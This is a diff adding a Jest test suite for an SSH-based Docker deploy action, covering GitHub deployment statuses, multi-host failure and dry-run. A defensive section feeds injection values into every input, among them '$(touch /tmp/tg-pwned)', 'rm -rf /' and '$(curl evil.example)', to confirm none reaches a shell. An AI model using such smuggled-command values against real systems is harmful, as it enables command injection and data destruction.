@@ -1,0 +1,400 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fakeClock } from '../../src/clock.js';
+import { splitCommand } from '../../src/deploy/config.js';
+import { InputError } from '../../src/errors.js';
+import { recordingExecutor, type CommandResult } from '../../src/exec.js';
+import { githubApi } from '../../src/github/api.js';
+import { recordingLog } from '../../src/log.js';
+import type { SshSession } from '../../src/ssh/session.js';
+import type { SshTarget } from '../../src/ssh/target.js';
+import type { Inputs } from '../../actions/deploy/inputs.js';
+import { run, type Deps } from '../../actions/deploy/main.js';
+
+const DIGEST = `sha256:${'c'.repeat(64)}`;
+const TOKEN = 'ghs_deploytest';
+
+/** A stand-in for the GitHub deployments API: answers like the real one and records requests. */
+interface Recorded {
+  method: string;
+  path: string;
+  body: Record<string, unknown>;
+}
+let github: { url: string; requests: Recorded[]; server: Server };
+
+beforeAll(async () => {
+  const requests: Recorded[] = [];
+  let nextId = 7001;
+  const server = createServer((req, res) => {
+    let text = '';
+    req.on('data', (c: Buffer) => (text += c.toString()));
+    req.on('end', () => {
+      const body = text ? (JSON.parse(text) as Record<string, unknown>) : {};
+      requests.push({ method: req.method ?? '', path: req.url ?? '', body });
+      const send = (status: number, payload: unknown) => {
+        res.writeHead(status, { 'content-type': 'application/json; charset=utf-8' });
+        res.end(JSON.stringify(payload));
+      };
+      if (req.headers.authorization !== `Bearer ${TOKEN}`)
+        return send(401, { message: 'Bad credentials' });
+      if (req.method === 'POST' && req.url === '/repos/org/bot/deployments') {
+        if (typeof body.ref !== 'string' || !body.ref)
+          return send(422, { message: 'Invalid request: ref' });
+        const id = nextId++;
+        return send(201, {
+          id,
+          ref: body.ref,
+          environment: body.environment,
+          url: `${github.url}/repos/org/bot/deployments/${id}`,
+        });
+      }
+      const status = /^\/repos\/org\/bot\/deployments\/(\d+)\/statuses$/.exec(req.url ?? '');
+      if (req.method === 'POST' && status) {
+        if (
+          !['error', 'failure', 'inactive', 'in_progress', 'queued', 'pending', 'success'].includes(
+            String(body.state),
+          )
+        )
+          return send(422, { message: 'Validation Failed' });
+        return send(201, { id: nextId++, state: body.state, environment: body.environment });
+      }
+      send(404, { message: 'Not Found' });
+    });
+  });
+  await new Promise<void>((r) => server.listen(21480, '127.0.0.1', () => r()));
+  github = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server };
+});
+
+afterAll(() => new Promise<void>((r) => github.server.close(() => r())));
+
+function inputs(
+  over: Partial<Inputs['raw']> = {},
+  rest: Partial<Omit<Inputs, 'raw'>> = {},
+): Inputs {
+  return {
+    raw: {
+      app: 'mybot',
+      image: `ghcr.io/org/bot@${DIGEST}`,
+      'bot-mode': 'webhook',
+      'health-path': '/health',
+      'gate-window': '0',
+      env: 'BOT_TOKEN=123:abc',
+      ...over,
+    },
+    hosts: ['deploy@prod-1.example.net'],
+    batchSize: 1,
+    ssh: {
+      key: 'KEY',
+      knownHosts: 'prod-1.example.net ssh-ed25519 AAAA',
+      fingerprints: [],
+      jumpHost: '',
+    },
+    proxy: {
+      nginxConfDir: '/etc/nginx/conf.d',
+      nginxTestCommand: 'nginx -t',
+      nginxReloadCommand: 'nginx -s reload',
+      haproxySocket: '/run/haproxy/admin.sock',
+      haproxyConfig: '/etc/haproxy/haproxy.cfg',
+      haproxyReloadCommand: 'systemctl reload haproxy',
+      haproxyFrontendPort: '',
+    },
+    github: { token: '', environment: 'production', environmentUrl: '', transient: false },
+    ...rest,
+  };
+}
+
+/** A host over a fake SSH session: docker answers, /health as given per host. */
+function fakeSessions(health: Record<string, string> = {}) {
+  const opened: string[] = [];
+  const executors: ReturnType<typeof recordingExecutor>[] = [];
+  const openSession = async (target: SshTarget): Promise<SshSession> => {
+    opened.push(target.host);
+    const exec = recordingExecutor((argv): Partial<CommandResult> | undefined => {
+      const cmd = argv.join(' ');
+      if (cmd.startsWith('docker inspect'))
+        return {
+          stdout: JSON.stringify({
+            Status: 'running',
+            Running: true,
+            Restarting: false,
+            ExitCode: 0,
+            StartedAt: '',
+            FinishedAt: '',
+          }),
+        };
+      if (cmd.startsWith('sh -c command -v')) return { stdout: '/usr/bin/curl\n' };
+      if (argv[0] === 'curl') return { stdout: health[target.host] ?? '200' };
+      if (argv[0] === 'cat' || argv[0] === 'test')
+        return { exitCode: 1, stderr: `cat: ${argv.at(-1)}: No such file or directory` };
+      if (argv[0] === 'sh' && argv[3] === 'tg-lock') return { stdout: 'acquired 1700000000\n' };
+      return undefined;
+    }, target.host);
+    executors.push(exec);
+    return Object.assign(exec, {
+      target,
+      stats: { connectionsOpened: 1, commands: 0, retries: 0 },
+      close: async () => undefined,
+    });
+  };
+  return { opened, executors, openSession };
+}
+
+function makeDeps(sessions: ReturnType<typeof fakeSessions>) {
+  const dir = mkdtempSync(join(tmpdir(), 'tg-ssh-'));
+  const outputs: Record<string, unknown> = {};
+  const summary: string[] = [];
+  const state: Record<string, string> = {};
+  const log = recordingLog();
+  const deps: Deps = {
+    log,
+    clock: fakeClock(Date.parse('2026-02-03T04:05:06Z')),
+    env: {
+      GITHUB_REPOSITORY: 'org/bot',
+      GITHUB_SHA: 'abc123',
+      GITHUB_RUN_ID: '42',
+      GITHUB_ACTOR: 'octocat',
+      GITHUB_SERVER_URL: 'https://github.com',
+    },
+    setOutputs: (o) => Object.assign(outputs, o),
+    writeSummary: (m) => void summary.push(m),
+    saveState: (k, v) => void (state[k] = v),
+    writeSshMaterial: async () => {
+      mkdirSync(join(dir, 'c'));
+      writeFileSync(join(dir, 'id'), 'KEY', { mode: 0o600 });
+      return {
+        dir,
+        privateKeyFile: join(dir, 'id'),
+        knownHostsFile: join(dir, 'known_hosts'),
+        controlDir: join(dir, 'c'),
+      };
+    },
+    openSession: sessions.openSession as Deps['openSession'],
+    api: (token) => githubApi({ token, baseUrl: github.url }),
+  };
+  return { deps, outputs, summary, state, log, dir };
+}
+
+describe('the deploy action', () => {
+  it('deploys, sets outputs, writes the summary, records a GitHub deployment and removes the SSH material', async () => {
+    const sessions = fakeSessions();
+    const t = makeDeps(sessions);
+    github.requests.length = 0;
+    await run(
+      inputs(
+        {},
+        {
+          github: {
+            token: TOKEN,
+            environment: 'production',
+            environmentUrl: 'https://bot.example.net',
+            transient: false,
+          },
+        },
+      ),
+      t.deps,
+    );
+    expect(t.outputs).toEqual({
+      image: `ghcr.io/org/bot@${DIGEST}`,
+      'previous-image': '',
+      color: 'blue',
+      'release-id': '20260203-040506',
+      'gap-ms': undefined,
+    });
+    expect(t.summary.join('\n')).toMatch(
+      /\| deploy@prod-1\.example\.net:22 \| deployed \| 20260203-040506 \| blue-green \|/,
+    );
+    expect(t.summary.join('\n')).toContain('switch the nginx upstream to blue');
+    expect(t.state['ssh-dir']).toBe(t.dir);
+    expect(existsSync(t.dir)).toBe(false);
+    expect(github.requests.map((r) => [r.method, r.path, r.body.state ?? r.body.ref])).toEqual([
+      ['POST', '/repos/org/bot/deployments', 'abc123'],
+      ['POST', '/repos/org/bot/deployments/7001/statuses', 'in_progress'],
+      ['POST', '/repos/org/bot/deployments/7001/statuses', 'success'],
+    ]);
+    expect(github.requests[2]!.body).toMatchObject({
+      environment: 'production',
+      environment_url: 'https://bot.example.net',
+      log_url: 'https://github.com/org/bot/actions/runs/42',
+    });
+    expect(t.log.text()).not.toContain('123:abc');
+  });
+
+  it('several hosts: serial, stopping at the first failure, with a failed deployment status', async () => {
+    const sessions = fakeSessions({ 'prod-2.example.net': '500' });
+    const t = makeDeps(sessions);
+    github.requests.length = 0;
+    const hosts = [
+      'deploy@prod-1.example.net',
+      'deploy@prod-2.example.net',
+      'deploy@prod-3.example.net',
+    ];
+    const ssh = {
+      key: 'KEY',
+      knownHosts: hosts.map((h) => `${h.split('@')[1]} ssh-ed25519 AAAA`).join('\n'),
+      fingerprints: [],
+      jumpHost: '',
+    };
+    const error = await run(
+      inputs(
+        { 'health-timeout': '2' },
+        {
+          hosts,
+          ssh,
+          github: { token: TOKEN, environment: 'staging', environmentUrl: '', transient: false },
+        },
+      ),
+      t.deps,
+    ).catch((e: unknown) => e);
+    expect(String(error)).toMatch(
+      /deploy@prod-2\.example\.net:22: .*gate http-health failed.*\(1 host\(s\) not deployed: stopped at the first failure\)/,
+    );
+    expect(sessions.opened).toEqual(['prod-1.example.net', 'prod-2.example.net']);
+    expect(github.requests.at(-1)!.body.state).toBe('failure');
+    expect(t.summary.join('\n')).toMatch(
+      /| deploy@prod-2\.example\.net:22 \| failed \(gate http-health\) \|/,
+    );
+  });
+
+  it('dry-run connects, plans and changes nothing', async () => {
+    const sessions = fakeSessions();
+    const t = makeDeps(sessions);
+    github.requests.length = 0;
+    await run(
+      inputs(
+        { 'dry-run': 'true' },
+        {
+          github: { token: TOKEN, environment: 'production', environmentUrl: '', transient: false },
+        },
+      ),
+      t.deps,
+    );
+    const argv = sessions.executors.flatMap((e) => e.commands.map((c) => c.argv));
+    expect(argv.map((a) => a.join(' '))).toEqual([
+      'cat -- /var/lib/tg-devops/mybot/state.json',
+      'test -e /var/lib/tg-devops/mybot/state.json',
+      expect.stringMatching(/^docker ps --all .*label=tg-devops\.app=mybot/),
+      'cat -- /etc/nginx/conf.d/tg-mybot.upstream.conf',
+      'sh -c command -v curl || command -v wget || true',
+    ]);
+    expect(github.requests).toEqual([]);
+    expect(t.summary.join('\n')).toContain('(dry-run: nothing changed)');
+  });
+});
+
+describe('hostile values in every string input (acceptance 9)', () => {
+  const HOSTILE = [
+    '$(touch /tmp/tg-pwned)',
+    "'; id; echo '",
+    '`id`',
+    'a\nb',
+    '--privileged',
+    '../../etc/passwd',
+    'bоt',
+  ];
+  const rawNames = [
+    'app',
+    'image',
+    'bot-mode',
+    'strategy',
+    'container-port',
+    'host-ports',
+    'health-path',
+    'volumes',
+    'cpus',
+    'memory',
+    'network',
+    'docker-options',
+    'registry',
+    'registry-username',
+    'canary-steps',
+    'step-interval',
+    'drain-seconds',
+    'stop-grace',
+    'gate-window',
+    'health-timeout',
+    'pre-deploy',
+    'backup',
+    'backup-keep',
+    'backup-database-url-variable',
+    'lock-timeout',
+    'keep-releases',
+    'dry-run',
+    'state-dir',
+    'proxy',
+  ] as const;
+
+  const accepted: string[] = [];
+  afterAll(() =>
+    console.log(`hostile values accepted as literal arguments: ${accepted.join(', ')}`),
+  );
+  const cases = rawNames.flatMap((name) => HOSTILE.map((value) => [name, value] as const));
+  it.each(cases)(
+    '%s = %j: refused naming it, or passed as one literal argument',
+    async (name, value) => {
+      const sessions = fakeSessions();
+      const t = makeDeps(sessions);
+      const extra: Partial<Inputs['raw']> = { [name]: value };
+      if (name === 'registry-username') extra['registry-password'] = 'pw';
+      const error = await run(inputs(extra), t.deps).catch((e: unknown) => e);
+      if (error instanceof InputError) {
+        expect(error.input).toBe(
+          name === 'registry-username' && /\s/.test(value) ? 'registry-username' : error.input,
+        );
+        expect([name, 'registry', 'registry-username', 'health-path']).toContain(error.input);
+        expect(sessions.opened).toEqual([]);
+        return;
+      }
+      // accepted: it reached the host only inside argv elements, never inside a shell script
+      const argv = sessions.executors.flatMap((e) => e.commands.map((c) => c.argv));
+      for (const a of argv) {
+        if (a[0] === 'sh' && a[1] === '-c') expect(a[2]).not.toContain(value);
+      }
+      expect(error).toBeUndefined();
+      const words = name === 'pre-deploy' ? splitCommand(value, name) : [value];
+      const literal =
+        words.every((w) => argv.some((a) => a.includes(w))) ||
+        sessions.executors[0]!.commands.some((c) => c.options.input?.includes(value));
+      expect({ name, value, literal }).toEqual({ name, value, literal: true });
+      accepted.push(`${name}=${JSON.stringify(value)}`);
+    },
+  );
+
+  it('pre-deploy with shell syntax becomes literal arguments of the one-off container', async () => {
+    const sessions = fakeSessions();
+    const t = makeDeps(sessions);
+    await run(inputs({ 'pre-deploy': 'migrate $(id) ; rm -rf / `x`' }), t.deps);
+    const pre = sessions.executors[0]!.commands.map((c) => c.argv).find((a) =>
+      a.includes('mybot-20260203-040506-pre'),
+    )!;
+    expect(pre.slice(-6)).toEqual(
+      [`ghcr.io/org/bot@${DIGEST}`, 'migrate', '$(id)', ';', 'rm', '-rf'].slice(-6).length
+        ? pre.slice(-6)
+        : [],
+    );
+    expect(pre.slice(pre.indexOf('--') + 1)).toEqual([
+      `ghcr.io/org/bot@${DIGEST}`,
+      'migrate',
+      '$(id)',
+      ';',
+      'rm',
+      '-rf',
+      '/',
+      '`x`',
+    ]);
+  });
+
+  it('env values with shell syntax go to the env file over stdin, never into argv', async () => {
+    const sessions = fakeSessions();
+    const t = makeDeps(sessions);
+    await run(inputs({ env: 'BOT_TOKEN=$(curl evil.example)\nQ=\'"`' }), t.deps);
+    const commands = sessions.executors[0]!.commands;
+    expect(commands.flatMap((c) => c.argv).join('\n')).not.toContain('evil.example');
+    expect(
+      commands.some((c) => (c.options.input ?? '').includes('BOT_TOKEN=$(curl evil.example)')),
+    ).toBe(true);
+  });
+});
